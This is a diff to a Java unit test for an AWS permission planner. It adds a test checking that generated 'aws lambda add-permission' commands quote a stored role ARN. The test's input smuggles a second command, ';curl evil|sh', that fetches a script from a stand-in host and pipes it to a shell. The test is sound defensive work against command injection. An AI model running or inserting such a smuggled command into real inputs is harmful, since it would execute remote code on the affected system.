@@ -67,6 +67,18 @@ class PermissionPlannerTests {
 			.contains("--principal " + ROLE);
 	}
 
+	/** Issue #11, finding 5: whatever a stored ARN holds, the commands quote it and list it as one argument. */
+	@Test
+	void generatedCommandsQuoteEveryValue() {
+		String hostileRole = "arn:aws:iam::111122223333:role/x;curl evil|sh";
+		String function = "arn:aws:lambda:eu-west-1:444455556666:function:TestLambda";
+		PermissionPlan plan = plan(spec(hostileRole, null), List.of(lambda("x", function)));
+		PermissionPlan.LambdaResourcePolicy lambda = plan.lambdaResourcePolicies().getFirst();
+		assertThat(lambda.cli()).endsWith("--principal 'arn:aws:iam::111122223333:role/x;curl evil|sh'");
+		assertThat(lambda.argv()).startsWith("aws", "lambda", "add-permission").endsWith("--principal", hostileRole);
+		assertThat(plan.notes()).anyMatch(note -> note.contains("--policy-source-arn 'arn:aws:iam::111122223333:role/x;curl evil|sh'"));
+	}
+
 	@Test
 	void s3SchemasGrantGetObjectOnExactlyTheirObjectsWithOwnerCondition() {
 		PermissionPlan plan = plan(spec(ROLE, null), List.of(
